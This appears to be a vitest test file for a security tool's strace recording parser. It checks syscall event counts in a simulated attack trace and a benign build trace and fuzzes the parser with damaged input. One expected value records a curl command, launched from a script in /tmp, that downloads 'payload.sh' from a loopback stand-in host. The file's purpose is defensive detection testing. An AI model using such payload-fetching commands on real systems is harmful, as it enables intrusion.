import { readFileSync } from 'node:fs';
import { gunzipSync } from 'node:zlib';
import { catalogue } from '@secl/model';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { openRecording } from '../../reading/recording.ts';

const linux = catalogue('linux');
const folder = new URL('../../../../../rules-library/recordings/', import.meta.url);
const attack = readFileSync(new URL('attack-sim.strace', folder));
const benign = readFileSync(new URL('benign-build.strace.gz', folder));

interface Summary {
  readonly types: Readonly<Record<string, number>>;
  readonly problems: readonly string[];
  readonly counts: Readonly<Record<string, number>>;
  readonly lines: ReadonlySet<number>;
}

async function* inChunks(bytes: Uint8Array): AsyncGenerator<Uint8Array> {
  for (let at = 0; at < bytes.length; at += 4096) {
    yield bytes.subarray(at, at + 4096);
  }
}

async function summarise(bytes: Uint8Array): Promise<Summary> {
  const types: Record<string, number> = {};
  const problems: string[] = [];
  const lines = new Set<number>();
  const recording = openRecording(inChunks(bytes), {
    document: 'recording',
    catalogue: linux,
    format: 'strace',
    onProblem: (problem) => problems.push(`${problem.line} ${problem.code}`),
  });
  for await (const batch of recording) {
    for (let event = batch.next(); event !== undefined; event = batch.next()) {
      types[event.type] = (types[event.type] ?? 0) + 1;
      lines.add(batch.at.line);
    }
  }
  return { types, problems, counts: { ...recording.counts }, lines };
}

/*
 * The numbers were counted apart from this code: calls per name and result, with the two parts of a call joined, of
 * which those count that returned no error, EACCES or EPERM (for connect also EINPROGRESS); `unlinkat` with
 * AT_REMOVEDIR is rmdir, `creat` is open; exits are ends of threads without those that CLONE_THREAD made.
 */
describe('the shipped recordings', () => {
  it('attack: every event, and no line lost', async () => {
    const { types, problems, counts } = await summarise(attack);
    expect(types).toEqual({
      accept: 2,
      bind: 2,
      capset: 2,
      chdir: 15,
      chmod: 3,
      chown: 1,
      connect: 4,
      dns: 2,
      exec: 43,
      exit: 43,
      link: 1,
      mkdir: 8,
      mmap: 744,
      mount: 1,
      mprotect: 219,
      open: 439,
      rename: 1,
      rmdir: 5,
      setgid: 1,
      setuid: 1,
      signal: 2,
      splice: 1,
      unlink: 2,
      unshare: 1,
      utimes: 1,
    });
    // This recording leaves fchdir out, which mkdir -p calls.
    expect(problems).toEqual(['75 events/strace-directory']);
    expect(counts).toEqual({ lines: 1898, events: 1605, processes: 123, irrelevant: 170, skipped: 0 });
  });

  it('build: every event, and no line lost', async () => {
    const { types, problems, counts } = await summarise(benign);
    expect(types).toEqual({
      chdir: 8,
      chmod: 9,
      exec: 31,
      exit: 31,
      link: 3,
      mkdir: 17,
      mprotect: 200,
      open: 770,
      rename: 11,
      setuid: 1,
      unlink: 15,
      utimes: 1,
    });
    expect(problems).toEqual([]);
    expect(counts).toEqual({ lines: 1605, events: 1135, processes: 100, irrelevant: 370, skipped: 0 });
  });

  it('attack: who downloads, and on whose behalf', async () => {
    const path = linux.field('process.file.path')?.slot ?? -1;
    const parent = linux.field('process.parent.file.path')?.slot ?? -1;
    const argv = linux.field('process.argv')?.slot ?? -1;
    const recording = openRecording(inChunks(attack), {
      document: 'x',
      catalogue: linux,
      onProblem: () => {},
    });
    const seen: unknown[] = [];
    for await (const batch of recording) {
      for (let event = batch.next(); event !== undefined; event = batch.next()) {
        if (event.type === 'exec' && event.slots[path] === '/usr/bin/curl') {
          seen.push([event.slots[parent], event.slots[argv], batch.at.text.split('\n').length]);
        }
      }
    }
    expect(recording.format?.id).toBe('strace');
    expect(seen).toEqual([
      ['/tmp/rec/work.sh', ['-s', '-o', '/tmp/rec/w/dl.sh', 'http://127.0.0.1:18765/payload.sh'], 2],
    ]);
  });

  it('damaged in any way, are read without an exception, and every line is counted once', async () => {
    const text = gunzipSync(benign).toString() + attack.toString();
    const all = text.split('\n');
    const damage = fc.tuple(
      fc.nat(),
      fc.nat(),
      fc.constantFrom('cut', 'drop', 'swap', 'insert', 'repeat', 'end'),
      fc.string(),
    );
    await fc.assert(
      fc.asyncProperty(
        fc.nat(all.length - 200),
        fc.array(damage, { minLength: 1, maxLength: 20 }),
        async (from, damages) => {
          const lines = all.slice(from, from + 200);
          for (const [line, column, kind, extra] of damages) {
            const at = line % lines.length;
            const old = lines[at] ?? '';
            const where = column % (old.length + 1);
            switch (kind) {
              case 'cut':
                lines[at] = old.slice(0, where);
                break;
              case 'drop':
                lines.splice(at, 1);
                lines.push('');
                break;
              case 'swap':
                lines[at] = lines[(at + 7) % lines.length] ?? '';
                lines[(at + 7) % lines.length] = old;
                break;
              case 'insert':
                lines[at] = old.slice(0, where) + extra.replaceAll(/[\r\n]/g, '') + old.slice(where);
                break;
              case 'repeat':
                lines[at] = old + old.slice(where);
                break;
              case 'end':
                lines[at] = `${old.slice(0, where)}${'[{<('.repeat(200)}`;
                break;
            }
          }
          const { counts, problems, types } = await summarise(new TextEncoder().encode(lines.join('\n')));
          expect(counts.lines).toBe(lines.filter((line) => line.trim() !== '').length);
          const { events = 0, processes = 0, irrelevant = 0, skipped = 0 } = counts;
          expect(events + processes + irrelevant + skipped).toBe(counts.lines);
          expect(problems.filter((each) => !each.includes('directory')).length).toBeLessThanOrEqual(skipped);
          expect(skipped).toBeLessThanOrEqual(2 * problems.length);
          expect(Object.values(types).reduce((a, b) => a + b, 0)).toBeLessThanOrEqual(events);
        },
      ),
      { numRuns: 150 },
    );
  });
});
